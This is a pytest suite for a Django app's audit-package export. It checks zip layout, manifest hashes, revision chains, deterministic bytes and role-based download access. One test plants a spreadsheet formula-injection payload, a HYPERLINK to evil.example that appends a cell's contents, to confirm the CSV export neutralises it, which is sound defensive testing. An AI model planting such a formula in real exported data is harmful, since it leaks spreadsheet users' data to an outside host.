"""export_audit and the lead's download: the layout of audit-package.md, the same bytes twice."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections import Counter
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.db.models import Max
from django.http import QueryDict
from django.urls import resolve, reverse, reverse_lazy
from django.utils import timezone

from audit.models import AuditExport
from audit.verify import verify
from cards.models import Claim, ClaimRevision, VerdictRevision
from cards.services.claims import claim_create, claim_revise
from cards.services.reviews import response_mark_complete
from cards.services.verdicts import verdict_save
from evidence.canonical import canonical_json, rfc3339, text_sha256
from evidence.models import Passage, Project
from evidence.spreadsheet import spreadsheet_cell
from jobs.models import Job
from replay.models import Citation, Response, Retrieval, Run
from tests.audit.test_audit_zip import export, manifest, members, rows, sha256
from tests.conftest import ROOT, bundle_bytes, import_bytes, sqlite_copy, sqlite_env
from tests.factories import synthetic_bundle

FIXED = {
    "manifest.json",
    "README.txt",
    "verify.py",
    "schema/bundle.schema.json",
    "schema/cards.schema.json",
    "fixture/cases.jsonl",
    "fixture/passages.jsonl",
    "cards/cards.jsonl",
    "cards/cards.csv",
    "cards/revisions.jsonl",
}


def layout(run_ids: list[str], compare: tuple[str, str] | None = None) -> set[str]:
    """Every path audit-package.md promises for these runs."""
    paths = {*FIXED, "anchor.json"}
    for run_id in run_ids:
        paths |= {
            f"runs/{run_id}/run.json",
            f"runs/{run_id}/responses.jsonl",
            f"runs/{run_id}/retrieval.jsonl",
            f"metrics/{run_id}.json",
        }
    if compare:
        paths.add(f"replay/{compare[0]}__{compare[1]}.json")
    return paths


def all_run_ids() -> list[str]:
    return sorted(Run.objects.values_list("run_id", flat=True))


def command_json(*args: str) -> dict:
    stdout = io.StringIO()
    call_command(*args, stdout=stdout)
    return json.loads(stdout.getvalue())


EXPORT_URL = reverse_lazy("export_start", args=["demo"])


def export_job(client, query: str = "", **extra) -> Job:
    """The job a lead's POST of the audit form queues (and, in the tests, runs at once)."""
    response = client.post(EXPORT_URL, dict(QueryDict(query.lstrip("&")).lists()), **extra)
    assert response.status_code == 302, response
    return Job.objects.get(code=resolve(response["Location"]).kwargs["code"])


def downloaded(client, query: str = "") -> bytes:
    """The package a lead exports through the browser, as its job's download gives it."""
    job = export_job(client, query)
    assert job.state == Job.State.DONE, job.errors
    response = client.get(reverse("job_download", args=["demo", job.code]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


# An export that fails half-way closes its zip (ZipStream.abandon): one left to the garbage
# collector would write to a closed file. Collected after each test and made an error, so
# such a regression fails here rather than echoing in whichever test runs next
# (tests/audit/conftest.py).
pytestmark = [
    pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning"),
    pytest.mark.usefixtures("collect_abandoned_zips"),
]


@pytest.fixture
def reviewed(demo_runs, reviewer, second_reviewer, lead) -> Claim:
    """q017-r1's C-017-2 after local work: two verdicts, a rewrite and an adjudication."""
    claim = Claim.objects.get(response__run__run_id="q017-r1", key="C-017-2")
    verdict_save(
        claim=claim, author=reviewer, support="partial", reason="The window drops a condition.",
        seen_claim_seq=1, seen_own_seq=None,
    )  # fmt: skip
    verdict_save(
        claim=claim, author=second_reviewer, support="unsupported", reason="Final sale excluded.",
        seen_claim_seq=1, seen_own_seq=None, contradicts=True,
    )  # fmt: skip
    claim_revise(
        claim=claim, author=reviewer, seen_claim_seq=1, text="Items can be returned in 30 days.",
        reason="Narrower: only the window.",
    )  # fmt: skip
    verdict_save(
        claim=claim, author=lead, support="supported", reason="D-01: 30 calendar days.",
        seen_claim_seq=5, seen_own_seq=None, adjudication=True,
    )  # fmt: skip
    return claim


# --- layout and manifest ----------------------------------------------------------------------


def test_the_package_has_every_path_of_the_layout(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export("--compare", "q017-r1", "q017-r2", out=out)
    assert set(members(out)) == layout(all_run_ids(), ("q017-r1", "q017-r2"))


def test_without_compare_there_is_no_replay_file(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export(out=out)
    assert set(members(out)) == layout(all_run_ids())


def test_only_the_runs_asked_for_are_exported_and_the_compared_ones(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export("--run", "pro-plan-r1", "--compare", "q017-r1", "q017-r2", out=out)
    files = members(out)
    assert set(files) == layout(["pro-plan-r1", "q017-r1", "q017-r2"], ("q017-r1", "q017-r2"))
    assert manifest(files)["runs"] == ["pro-plan-r1", "q017-r1", "q017-r2"]
    assert {row["run_id"] for row in rows(files["cards/cards.jsonl"])} == {"q017-r1", "q017-r2"}


def test_the_manifest_lists_every_other_file_with_its_size_and_sha256(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export("--compare", "q017-r1", "q017-r2", out=out)
    files = members(out)
    entries = manifest(files)["files"]
    unlisted = ("manifest.json", "anchor.json")  # written after the manifest
    assert [e["path"] for e in entries] == [name for name in files if name not in unlisted]
    for entry in entries:
        assert entry["bytes"] == len(files[entry["path"]]), entry["path"]
        assert entry["sha256"] == sha256(files[entry["path"]]), entry["path"]


def test_the_manifest_names_the_format_project_runs_comparison_and_seals_itself(
    demo_runs, tmp_path
):
    out = tmp_path / "package.zip"
    export("--compare", "q017-r1", "q017-r2", out=out)
    document = manifest(members(out))
    assert document["format"] == "evidence-audit/1"
    assert document["generator"].startswith("evidence-review ")
    assert document["project"] == "demo"
    assert document["runs"] == all_run_ids()
    assert document["compare"] == ["q017-r1", "q017-r2"]
    body = {k: v for k, v in document.items() if k != "manifest_sha256"}
    assert document["manifest_sha256"] == sha256(canonical_json(body))


def test_the_readme_says_how_to_verify(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export(out=out)
    readme = members(out)["README.txt"].decode("utf-8")
    assert "python3 verify.py" in readme
    assert "--id" in readme


def test_the_verifier_and_the_bundle_schema_are_the_applications_own(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export(out=out)
    files = members(out)
    assert files["verify.py"] == (ROOT / "audit" / "verify.py").read_bytes()
    schema = ROOT / "ingest" / "schema" / "bundle.schema.json"
    assert files["schema/bundle.schema.json"] == schema.read_bytes()
    assert json.loads(files["schema/cards.schema.json"])["title"].startswith("One row of cards")


# --- missing[] --------------------------------------------------------------------------------


def test_missing_names_traces_not_imported_and_claims_never_judged(project, tmp_path):
    lines = synthetic_bundle(run_id="untraced", cases=2, claims=2)
    answers = [line for line in lines if line["kind"] == "response"]
    answers[1]["claims"][1]["judgements"] = []
    import_bytes(bundle_bytes(*lines))
    out = tmp_path / "package.zip"
    export("--annotator", "judge-0", out=out)
    files = members(out)
    assert manifest(files)["missing"] == [
        "cards: untraced/case-1/c1 was never judged",
        "runs/untraced: trace of case case-0",
        "runs/untraced: trace of case case-1",
    ]
    assert [r["trace"] for r in rows(files["runs/untraced/responses.jsonl"])] == [None, None]
    card = [r for r in rows(files["cards/cards.jsonl"]) if r["case_id"] == "case-1"][1]
    assert card["claim_id"] == "c1"
    verdict = ("support", "reason", "reviewer", "origin", "judged_at", "association")
    assert {name: card[name] for name in verdict} == dict.fromkeys(verdict)  # not invented


def test_a_fully_judged_run_with_traces_misses_nothing(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", "--annotator", "seed-protocol", out=out)
    assert manifest(members(out))["missing"] == ["runs/q017-r1: trace of case Q-017"]


def test_a_trace_that_was_imported_is_exported_and_not_listed_as_missing(project, tmp_path):
    lines = synthetic_bundle(run_id="traced", cases=2, claims=1)
    answers = [line for line in lines if line["kind"] == "response"]
    trace = {"prompt": "Answer with citations.", "timings": {"retrieve_ms": 12, "gen_ms": 840}}
    answers[0]["trace"] = trace
    import_bytes(bundle_bytes(*lines))
    out = tmp_path / "package.zip"
    export("--annotator", "judge-0", out=out)
    files = members(out)
    assert manifest(files)["missing"] == ["runs/traced: trace of case case-1"]
    assert [r["trace"] for r in rows(files["runs/traced/responses.jsonl"])] == [trace, None]


def test_retrieval_filters_are_exported_as_imported(project, tmp_path):
    lines = synthetic_bundle(run_id="filtered", cases=1, claims=1)
    (answer,) = [line for line in lines if line["kind"] == "response"]
    answer["retrieved"][0]["filters"] = {"locale": "it", "year": 2026}
    import_bytes(bundle_bytes(*lines))
    out = tmp_path / "package.zip"
    export(out=out)
    retrieval = rows(members(out)["runs/filtered/retrieval.jsonl"])
    assert [r["filters"] for r in retrieval] == [{"locale": "it", "year": 2026}, None, None, None]


def test_a_claim_split_here_and_not_yet_judged_is_missing_its_verdict(
    demo_runs, reviewer, tmp_path
):
    response = Response.objects.get(run__run_id="q017-r3")
    claim_create(response=response, author=reviewer, text="Final sale.", spans=[[94, 123]])
    out = tmp_path / "package.zip"
    export("--run", "q017-r3", out=out)
    assert "cards: q017-r3/Q-017/c1 was never judged" in manifest(members(out))["missing"]


def test_a_withdrawn_claim_without_verdict_is_not_missing_anything(demo_runs, reviewer, tmp_path):
    response = Response.objects.get(run__run_id="q017-r3")
    claim = claim_create(response=response, author=reviewer, text="Dup.", spans=[[94, 123]])
    claim_revise(claim=claim, author=reviewer, seen_claim_seq=1, withdrawn=True, reason="Dup.")
    out = tmp_path / "package.zip"
    export("--run", "q017-r3", out=out)
    files = members(out)
    assert not [m for m in manifest(files)["missing"] if m.startswith("cards:")]
    assert rows(files["cards/cards.jsonl"])[0]["withdrawn"] is True


# --- the data files ---------------------------------------------------------------------------


def test_cards_carry_the_exact_passage_text_of_every_citation(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export(out=out)
    files = members(out)
    frozen = {(p["snapshot"], p["ref"]): p for p in rows(files["fixture/passages.jsonl"])}
    cited = 0
    for card in rows(files["cards/cards.jsonl"]):
        for citation in card["citations"]:
            stored = Passage.objects.get(snapshot__name=card["snapshot"], ref=citation["ref"])
            assert citation["text"] == stored.text
            assert citation["sha256"] == stored.sha256 == text_sha256(stored.text)
            assert citation["text"] == frozen[(card["snapshot"], citation["ref"])]["text"]
            cited += 1
    assert cited > 10
    assert any("°" in text for text in (p["text"] for p in frozen.values()))  # UTF-8 kept


def test_a_card_citing_a_passage_its_response_never_retrieved_carries_its_text(project, tmp_path):
    lines = synthetic_bundle(run_id="appendix", cases=1, claims=1)
    text = "An appendix nobody retrieved: the limit is 12 units."
    lines.insert(
        1,
        {
            "kind": "passage", "ref": "appendix@v1#a1", "doc_id": "appendix", "version": "v1",
            "chunk_id": "a1", "text": text, "sha256": text_sha256(text),
            "version_status": "current",
        },
    )  # fmt: skip
    (answer,) = [line for line in lines if line["kind"] == "response"]
    answer["claims"][0]["citations"] = ["appendix@v1#a1"]
    import_bytes(bundle_bytes(*lines))
    out = tmp_path / "package.zip"
    export(out=out)
    files = members(out)
    (card,) = rows(files["cards/cards.jsonl"])
    assert card["citations"] == [
        {"ref": "appendix@v1#a1", "text": text, "sha256": text_sha256(text)}
    ]
    assert "appendix@v1#a1" in {p["ref"] for p in rows(files["fixture/passages.jsonl"])}


def test_cards_csv_has_the_rows_of_cards_jsonl_with_the_passage_texts(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export(out=out)
    files = members(out)
    cards = rows(files["cards/cards.jsonl"])
    table = list(csv.DictReader(io.StringIO(files["cards/cards.csv"].decode("utf-8"))))
    assert [(r["run_id"], r["case_id"], r["claim_id"]) for r in table] == [
        (c["run_id"], c["case_id"], c["claim_id"]) for c in cards
    ]
    for row, card in zip(table, cards, strict=True):
        assert row["support"] == (card["support"] or "")
        assert row["citation_texts"] == "\n---\n".join(c["text"] for c in card["citations"])


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "'=1"), ("a=1", "a=1"),
        ("", ""), (None, ""), (False, "False"),
    ],
)  # fmt: skip
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(value, cell):
    assert spreadsheet_cell(value) == cell


def test_cards_csv_neutralises_formulas_and_cards_jsonl_keeps_the_exact_text(
    demo_runs, reviewer, tmp_path
):
    response = Response.objects.get(run__run_id="q017-r3")
    text = '=HYPERLINK("https://evil.example/?"&A1,"Final sale")'
    claim = claim_create(response=response, author=reviewer, text=text, spans=[[94, 123]])
    verdict_save(
        claim=claim, author=reviewer, support="supported", reason="@SUM(1+1) D-01.",
        seen_claim_seq=1, seen_own_seq=None,
    )  # fmt: skip
    out = tmp_path / "package.zip"
    export("--run", "q017-r3", out=out)
    files = members(out)
    (card,) = [c for c in rows(files["cards/cards.jsonl"]) if c["claim_id"] == claim.key]
    assert (card["text"], card["reason"]) == (text, "@SUM(1+1) D-01.")
    table = list(csv.DictReader(io.StringIO(files["cards/cards.csv"].decode("utf-8"))))
    (row,) = [r for r in table if r["claim_id"] == claim.key]
    assert (row["text"], row["reason"]) == ("'" + text, "'@SUM(1+1) D-01.")
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [c for r in table for c in [*r, *r.values()] if c.startswith(starts)]


def test_a_card_shows_the_current_verdict_the_adjudication_over_the_reviews(reviewed, tmp_path):
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", out=out)
    card = next(r for r in rows(members(out)["cards/cards.jsonl"]) if r["claim_id"] == "C-017-2")
    adjudication = reviewed.verdicts.get(seq=6)
    assert card["text"] == "Items can be returned in 30 days."
    assert (card["support"], card["reviewer"], card["origin"]) == (
        "supported",
        "lead",
        "adjudication",
    )
    assert card["reason"] == "D-01: 30 calendar days."
    assert card["judged_at"] == rfc3339(adjudication.created_at)


# The verdict sources of run_metrics, as export_audit takes them: label → options.
SOURCES = {
    "default": (),
    "annotator:seed-protocol": ("--annotator", "seed-protocol"),
    "annotator:alice": ("--annotator", "alice"),
    "consensus": ("--consensus",),
}


@pytest.mark.parametrize("label", SOURCES)
def test_each_card_shows_the_verdict_the_packages_figures_count(reviewed, tmp_path, label):
    out = tmp_path / "package.zip"
    export(*SOURCES[label], out=out)
    files = members(out)
    assert manifest(files)["verdicts_from"] == label
    cards = rows(files["cards/cards.jsonl"])
    counted = Counter()
    for run_id in all_run_ids():
        figures = json.loads(files[f"metrics/{run_id}.json"])
        assert figures["verdicts_from"] == label
        for response in figures["per_response"]:
            if response["verdicts"] is None:
                continue  # an unreviewed response: the figures count none of its claims
            labels = Counter(
                card["support"] or "unreviewed"
                for card in cards
                if (card["run_id"], card["case_id"]) == (run_id, response["case_id"])
                and card["kind"] == "factual"
                and not card["withdrawn"]
            )
            assert labels == Counter(response["verdicts"]), (run_id, response["case_id"])
            counted += labels
    # The demo's imported judgements are cards of seed-protocol's, and of no other source.
    imported = counted["supported"] + counted["partial"] + counted["unsupported"]
    assert (counted["unreviewed"] > 10) == (label in {"default", "annotator:alice"})
    assert (imported > 10) == (label in {"annotator:seed-protocol", "consensus"})


def test_a_card_says_no_consensus_where_its_annotators_split(
    demo_runs, reviewer, second_reviewer, tmp_path
):
    response = Response.objects.get(run__run_id="q017-r3")
    claim = claim_create(response=response, author=reviewer, text="Final sale.", spans=[[94, 123]])
    for author, support in ((reviewer, "supported"), (second_reviewer, "unsupported")):
        verdict_save(
            claim=claim, author=author, support=support, reason="Read D-01.",
            seen_claim_seq=1, seen_own_seq=None,
        )  # fmt: skip
    response_mark_complete(response=response, author=reviewer)
    out = tmp_path / "package.zip"
    export("--run", "q017-r3", "--consensus", out=out)
    files = members(out)
    (card,) = rows(files["cards/cards.jsonl"])
    assert (card["support"], card["reviewer"], card["reason"]) == ("no_consensus", None, None)
    figures = json.loads(files["metrics/q017-r3.json"])
    assert figures["per_response"][0]["verdicts"]["no_consensus"] == 1
    assert not [m for m in manifest(files)["missing"] if m.startswith("cards:")]


def test_a_card_judged_by_another_source_is_missing_the_packages_verdict(reviewed, tmp_path):
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", out=out)
    files = members(out)
    card = next(r for r in rows(files["cards/cards.jsonl"]) if r["claim_id"] == "C-017-1")
    assert (card["support"], card["origin"]) == (None, None)
    assert "cards: q017-r1/Q-017/C-017-1 has no verdict from default" in manifest(files)["missing"]


def test_the_browser_download_takes_the_verdict_source_of_the_figures_page(
    client, lead, reviewed, tmp_path
):
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", "--annotator", "seed-protocol", out=out)
    client.force_login(lead)
    query = "&run=q017-r1&source=annotator:seed-protocol"
    assert downloaded(client, query) == out.read_bytes()


def test_the_audit_page_offers_every_verdict_source(client, lead, reviewed):
    client.force_login(lead)
    content = client.get(reverse("audit_export", args=["demo"])).content.decode()
    for label in SOURCES:
        assert f'value="{label}"' in content


def test_revisions_carry_every_claim_and_verdict_revision_of_each_chain_in_order(
    reviewed, tmp_path
):
    out = tmp_path / "package.zip"
    export(out=out)
    revisions = rows(members(out)["cards/revisions.jsonl"])
    stored = set(ClaimRevision.objects.values_list("sha256", flat=True)) | set(
        VerdictRevision.objects.values_list("sha256", flat=True)
    )
    assert len(revisions) == len(stored)
    assert {r["sha256"] for r in revisions} == stored
    heads: dict[str, tuple[int, str | None]] = {}
    for row in revisions:
        document = {k: v for k, v in row.items() if k != "sha256"}
        assert row["sha256"] == sha256(canonical_json(document))
        chain = "/".join((row["project"], row["run_id"], row["case_id"], row["claim_id"]))
        seq, previous = heads.get(chain, (0, None))
        assert (row["seq"], row["prev_sha256"]) == (seq + 1, previous)
        heads[chain] = (row["seq"], row["sha256"])
    chain = [r for r in revisions if r["claim_id"] == "C-017-2" and r["run_id"] == "q017-r1"]
    assert [(r["seq"], r["type"], r["author"]) for r in chain] == [
        (1, "claim_revision", "bundle"),
        (2, "verdict_revision", "seed-protocol"),
        (3, "verdict_revision", "alice"),
        (4, "verdict_revision", "bob"),
        (5, "claim_revision", "alice"),
        (6, "verdict_revision", "lead"),
    ]
    assert chain[4]["reason"] == "Narrower: only the window."
    assert manifest(members(out))["chain_heads"]["demo/q017-r1/Q-017/C-017-2"] == (
        reviewed.verdicts.get(seq=6).sha256
    )


def test_revisions_are_listed_oldest_first_across_chains_and_runs(reviewed, tmp_path):
    out = tmp_path / "package.zip"
    export(out=out)
    revisions = rows(members(out)["cards/revisions.jsonl"])
    times = [r["created_at"] for r in revisions]
    assert times == sorted(times)
    # The local work on q017-r1's C-017-2 is the newest: it comes after every imported row.
    local = [r for r in revisions if r["origin"] != "imported"]
    assert [(r["run_id"], r["claim_id"], r["seq"]) for r in local] == [
        ("q017-r1", "C-017-2", seq) for seq in (3, 4, 5, 6)
    ]
    assert revisions[-len(local) :] == local
    assert verify(str(out))["revisions"] == len(revisions)


def test_revisions_of_one_time_are_listed_claim_by_claim_in_chain_order(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", out=out)
    revisions = rows(members(out)["cards/revisions.jsonl"])
    assert len({r["created_at"] for r in revisions}) == 1  # one import
    claims = Claim.objects.filter(response__run__run_id="q017-r1").order_by("pk")
    expected = [
        (claim.key, seq)
        for claim in claims
        for seq in range(1, claim.revisions.count() + claim.verdicts.count() + 1)
    ]
    assert [(r["claim_id"], r["seq"]) for r in revisions] == expected


def test_a_revision_dated_before_the_one_it_follows_is_listed_right_after_it(
    demo_runs, reviewer, tmp_path, monkeypatch
):
    claim = Claim.objects.get(response__run__run_id="q017-r1", key="C-017-2")
    verdict_save(
        claim=claim, author=reviewer, support="partial", reason="The window drops a condition.",
        seen_claim_seq=1, seen_own_seq=None,
    )  # fmt: skip
    earlier = claim.verdicts.get(seq=3).created_at - timedelta(minutes=5)
    monkeypatch.setattr(timezone, "now", lambda: earlier)  # the clock was set back
    verdict_save(
        claim=claim, author=reviewer, support="supported", reason="Read again: it holds.",
        seen_claim_seq=1, seen_own_seq=3,
    )  # fmt: skip
    monkeypatch.undo()
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", out=out)
    revisions = rows(members(out)["cards/revisions.jsonl"])
    assert [(r["claim_id"], r["seq"]) for r in revisions[-2:]] == [("C-017-2", 3), ("C-017-2", 4)]
    assert revisions[-1]["created_at"] == rfc3339(earlier)
    assert verify(str(out))["revisions"] == len(revisions)


def test_passages_are_every_passage_an_exported_response_retrieved_or_cited(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", "--run", "p7-answer-a", out=out)
    runs = ["q017-r1", "p7-answer-a"]
    used = set(
        Retrieval.objects.filter(response__run__run_id__in=runs).values_list(
            "passage_id", flat=True
        )
    ) | set(
        Citation.objects.filter(response__run__run_id__in=runs).values_list(
            "passage_id", flat=True
        )
    )
    expected = {
        (p.snapshot.name, p.ref, p.text, p.sha256)
        for p in Passage.objects.filter(pk__in=used).select_related("snapshot")
    }
    exported = rows(members(out)["fixture/passages.jsonl"])
    assert {(p["snapshot"], p["ref"], p["text"], p["sha256"]) for p in exported} == expected
    assert len(exported) == len(expected)


def test_cases_are_the_expectations_the_exported_responses_were_made_against(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", "--run", "pro-plan-r1", out=out)
    cases = rows(members(out)["fixture/cases.jsonl"])
    assert [(c["case_id"], c["expectation_version"]) for c in cases] == [
        ("Q-017", 1),
        ("q1", 1),
        ("q2", 1),
        ("q3", 1),
    ]
    q017 = cases[0]
    assert q017["query"].startswith("Can I return a final-sale item after 30 days")
    assert {f["fact_id"] for f in q017["required_facts"]} >= {"G1", "G2"}


def test_responses_and_retrieval_are_as_imported(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", out=out)
    files = members(out)
    (answer,) = rows(files["runs/q017-r1/responses.jsonl"])
    stored = Response.objects.get(run__run_id="q017-r1")
    assert answer["text"] == stored.text
    assert [c["marker"] for c in answer["citations"]] == ["[D-01]", "[D-02]"]
    assert answer["abstained"] is False
    retrieval = rows(files["runs/q017-r1/retrieval.jsonl"])
    assert [(r["rank"], r["ref"], r["score"]) for r in retrieval] == [
        (1, "D-01@returns-v4#p04", 0.82),
        (2, "D-02@refunds-v2#p07", 0.77),
    ]
    run = json.loads(files["runs/q017-r1/run.json"])
    assert (run["run_id"], run["collection_snapshot"], run["source_name"]) == (
        "q017-r1",
        "store-kb@2026-07",
        "q017-r1.jsonl",
    )


@pytest.mark.parametrize("label", ["default", "annotator:seed-protocol", "consensus"])
def test_metrics_equal_what_run_metrics_prints(reviewed, tmp_path, label):
    out = tmp_path / "package.zip"
    export(*SOURCES[label], out=out)
    files = members(out)
    for run_id in all_run_ids():
        figures = command_json("run_metrics", run_id, "--project", "demo", *SOURCES[label])
        assert json.loads(files[f"metrics/{run_id}.json"]) == figures, run_id


@pytest.mark.parametrize("label", ["default", "annotator:seed-protocol"])
def test_the_comparison_equals_what_compare_runs_prints(reviewed, tmp_path, label):
    out = tmp_path / "package.zip"
    export("--compare", "q017-r1", "q017-r2", *SOURCES[label], out=out)
    comparison = command_json(
        "compare_runs", "q017-r1", "q017-r2", "--project", "demo", *SOURCES[label]
    )
    assert json.loads(members(out)["replay/q017-r1__q017-r2.json"]) == comparison


# --- package id and created_at ----------------------------------------------------------------


def test_the_export_prints_the_package_id_and_records_it(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    printed = export("--run", "q017-r1", out=out)
    assert printed == sha256(members(out)["manifest.json"])
    record = AuditExport.objects.get()
    assert (record.package_id, record.runs, record.exported_by) == (printed, ["q017-r1"], None)


def test_the_audit_page_lists_every_exports_package_id(client, lead, demo_runs, tmp_path):
    first = export("--run", "q017-r1", out=tmp_path / "one.zip")
    client.force_login(lead)
    second = sha256(members(downloaded(client, "&run=q017-r2"))["manifest.json"])
    content = client.get(reverse("audit_export", args=["demo"])).content.decode()
    assert first in content
    assert second in content
    assert AuditExport.objects.get(package_id=second).exported_by == lead


def test_created_at_is_the_time_of_the_newest_revision_included(reviewed, tmp_path):
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", out=out)
    newest = max(
        ClaimRevision.objects.filter(claim__response__run__run_id="q017-r1").aggregate(
            t=Max("created_at")
        )["t"],
        VerdictRevision.objects.filter(claim__response__run__run_id="q017-r1").aggregate(
            t=Max("created_at")
        )["t"],
    )
    assert newest == reviewed.verdicts.get(seq=6).created_at
    assert manifest(members(out))["created_at"] == rfc3339(newest)


def test_work_outside_the_package_moves_neither_created_at_nor_a_byte(
    demo_runs, reviewer, tmp_path
):
    before = export("--run", "q017-r1", out=tmp_path / "before.zip")
    response = Response.objects.get(run__run_id="q017-r3")
    claim = claim_create(response=response, author=reviewer, text="Later.", spans=[[94, 123]])
    verdict_save(
        claim=claim, author=reviewer, support="supported", reason="Later work elsewhere.",
        seen_claim_seq=1, seen_own_seq=None,
    )  # fmt: skip
    after = export("--run", "q017-r1", out=tmp_path / "after.zip")
    assert after == before
    assert (tmp_path / "after.zip").read_bytes() == (tmp_path / "before.zip").read_bytes()


def test_a_new_verdict_in_the_package_moves_created_at_to_its_time(demo_runs, reviewer, tmp_path):
    export("--run", "q017-r1", out=tmp_path / "before.zip")
    claim = Claim.objects.get(response__run__run_id="q017-r1", key="C-017-1")
    verdict = verdict_save(
        claim=claim, author=reviewer, support="supported", reason="D-01 says so.",
        seen_claim_seq=1, seen_own_seq=None,
    )  # fmt: skip
    export("--run", "q017-r1", out=tmp_path / "after.zip")
    assert manifest(members(tmp_path / "after.zip"))["created_at"] == rfc3339(verdict.created_at)
    assert manifest(members(tmp_path / "before.zip"))["created_at"] < rfc3339(verdict.created_at)


# --- deterministic ----------------------------------------------------------------------------


def test_two_exports_of_the_same_data_are_byte_identical(reviewed, tmp_path):
    first = export("--compare", "q017-r1", "q017-r2", out=tmp_path / "one.zip")
    second = export("--compare", "q017-r1", "q017-r2", out=tmp_path / "two.zip")
    assert first == second
    assert (tmp_path / "one.zip").read_bytes() == (tmp_path / "two.zip").read_bytes()


def test_the_browser_download_is_byte_identical_to_the_command(client, lead, reviewed, tmp_path):
    out = tmp_path / "package.zip"
    export("--run", "q017-r1", "--compare", "q017-r1", "q017-r2", out=out)
    client.force_login(lead)
    assert downloaded(client, "&run=q017-r1&a=q017-r1&b=q017-r2") == out.read_bytes()
    every = export(out=tmp_path / "every.zip")
    assert downloaded(client) == (tmp_path / "every.zip").read_bytes()
    assert AuditExport.objects.filter(package_id=every).count() == 2


def test_exports_in_two_processes_with_other_hash_seeds_are_byte_identical(demo_sqlite, tmp_path):
    # Within one process set and dict orders repeat themselves; a fresh interpreter with
    # another PYTHONHASHSEED is how "exported again next week" really runs.
    env = sqlite_env(sqlite_copy(demo_sqlite, tmp_path / "own.sqlite3"))
    manage = [sys.executable, str(ROOT / "manage.py")]
    printed = []
    for seed in ("1", "2"):
        done = subprocess.run(
            [*manage, "export_audit", "--project", "demo", "--compare", "q017-r1", "q017-r2",
             "--out", str(tmp_path / f"seed{seed}.zip")],
            env={**env, "PYTHONHASHSEED": seed}, cwd=ROOT, check=True, capture_output=True,
            text=True,
        )  # fmt: skip
        printed.append(done.stdout.strip())
    assert printed[0] == printed[1]
    assert (tmp_path / "seed1.zip").read_bytes() == (tmp_path / "seed2.zip").read_bytes()


# --- who may download -------------------------------------------------------------------------


def test_a_lead_downloads_the_zip_of_an_export_job_named_after_its_package(
    client, lead, demo_runs
):
    client.force_login(lead)
    job = export_job(client)
    response = client.get(reverse("job_download", args=["demo", job.code]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    name = f"audit-demo-{job.result['package_id'][:12]}.zip"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert set(members(b"".join(response.streaming_content))) == layout(all_run_ids())


def test_an_htmx_export_answers_with_the_jobs_status_and_its_package_id(client, lead, demo_runs):
    client.force_login(lead)
    response = client.post(EXPORT_URL, {"run": "q017-r1"}, headers={"HX-Request": "true"})
    job = Job.objects.get()
    content = response.content.decode()
    assert content.lstrip().startswith(f'<section id="job-{job.code}"')
    assert job.result["package_id"] in content
    assert reverse("job_download", args=["demo", job.code]) in content
    assert AuditExport.objects.get().package_id == job.result["package_id"]


def test_the_audit_page_offers_every_run_to_a_lead(client, lead, demo_runs):
    client.force_login(lead)
    response = client.get(reverse("audit_export", args=["demo"]))
    assert response.status_code == 200
    for run_id in all_run_ids():
        assert f'value="{run_id}"' in response.content.decode()


def test_the_audit_form_posts_to_the_export_job(client, lead, demo_runs):
    client.force_login(lead)
    content = client.get(reverse("audit_export", args=["demo"])).content.decode()
    assert f'<form method="post" action="{EXPORT_URL}"' in content
    assert client.get(EXPORT_URL).status_code == 405


@pytest.mark.parametrize("htmx", [False, True])
def test_a_reviewer_gets_403(client, reviewer, demo_runs, htmx):
    client.force_login(reviewer)
    headers = {"HX-Request": "true"} if htmx else {}
    assert client.get(reverse("audit_export", args=["demo"]), headers=headers).status_code == 403
    assert client.post(EXPORT_URL, {"run": "q017-r1"}, headers=headers).status_code == 403
    assert not Job.objects.exists()
    assert not AuditExport.objects.exists()


def test_an_outsider_gets_404(client, outsider, demo_runs):
    client.force_login(outsider)
    assert client.get(reverse("audit_export", args=["demo"])).status_code == 404
    assert client.post(EXPORT_URL).status_code == 404
    assert not Job.objects.exists()


def test_an_anonymous_visitor_is_sent_to_log_in(client, demo_runs):
    response = client.post(EXPORT_URL)
    assert response.status_code == 302
    assert "login" in response["Location"]


def test_an_unknown_run_comes_back_with_a_message_and_queues_nothing(client, lead, demo_runs):
    client.force_login(lead)
    response = client.post(EXPORT_URL, {"run": "nope"}, follow=True)
    assert response.redirect_chain[-1][0] == reverse("audit_export", args=["demo"])
    assert "run &#x27;nope&#x27; does not exist" in response.content.decode()
    assert not Job.objects.exists()


def test_an_unknown_run_through_htmx_is_refused_in_place(client, lead, demo_runs):
    client.force_login(lead)
    response = client.post(EXPORT_URL, {"run": "nope"}, headers={"HX-Request": "true"})
    assert response.status_code == 400
    assert "Export refused: run &#x27;nope&#x27; does not exist" in response.content.decode()


